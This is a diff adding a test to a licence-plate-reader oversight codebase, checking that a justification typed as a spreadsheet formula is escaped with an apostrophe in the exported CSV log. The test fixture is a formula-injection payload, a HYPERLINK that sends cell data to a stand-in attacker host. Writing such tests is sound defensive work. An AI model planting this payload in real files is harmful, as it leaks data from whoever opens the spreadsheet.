@@ -17,6 +17,8 @@ from sqlalchemy import select
 from alpr.data.models import AccessRecord
 from alpr.governance.access_log import Event, Outcome
 from alpr.governance.errors import Refusal
+from alpr.governance.gateway import JustificationInput
+from alpr.governance.investigations.searches import plate_history
 from alpr.governance.oversight.report import signed_log_report, verify_report
 from alpr.governance.oversight.review import LogFilter, export_log_csv, review_log
 from alpr.governance.oversight.usage import Figure, statistics_csv
@@ -174,3 +176,35 @@ def test_a_figure_of_the_statistics_is_recorded_as_an_export(
         )
     [refused] = _exports(rt, "chen")
     assert refused.outcome == Outcome.REFUSED
+
+
+FORMULA = (
+    '=HYPERLINK("https://evil.example/?"&A3,"Open") armed robbery at 5th St and Main on '
+    "Dec 1 2026, blue sedan"
+)
+
+
+def test_a_description_typed_as_a_formula_stays_text_in_the_csv(
+    rt: Runtime, clock: Clock, people: dict[str, TestUser]
+) -> None:
+    """R22, R23, R50: a searcher's description is theirs to type, and the gateway accepts one
+    that starts with ``=``; in the sergeant's CSV of the log it is text (behind an apostrophe),
+    not a formula the spreadsheet runs on opening the file, and the export record's SHA-256 is
+    that of the file as handed back."""
+    clock.now = DAY + timedelta(hours=2)
+    searched = plate_history(
+        rt,
+        principal=people["detective"].principal,
+        justification=JustificationInput(purpose="stolen_vehicle", description=FORMULA),
+        plate="7ABC123",
+    )
+    record_id = searched.access_record_id
+    exported = export_log_csv(
+        rt, principal=people["sergeant"].principal, filters=WINDOW, record_ids=[record_id]
+    )
+    [row] = list(csv.DictReader(io.StringIO(exported.data.decode())))
+    assert row["Case or reason"] == "'" + FORMULA
+    cells = [cell for line in csv.reader(io.StringIO(exported.data.decode())) for cell in line]
+    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)
+    [record] = _exports(rt, "brooks")
+    assert (record.query or {})["sha256"] == hashlib.sha256(exported.data).hexdigest()
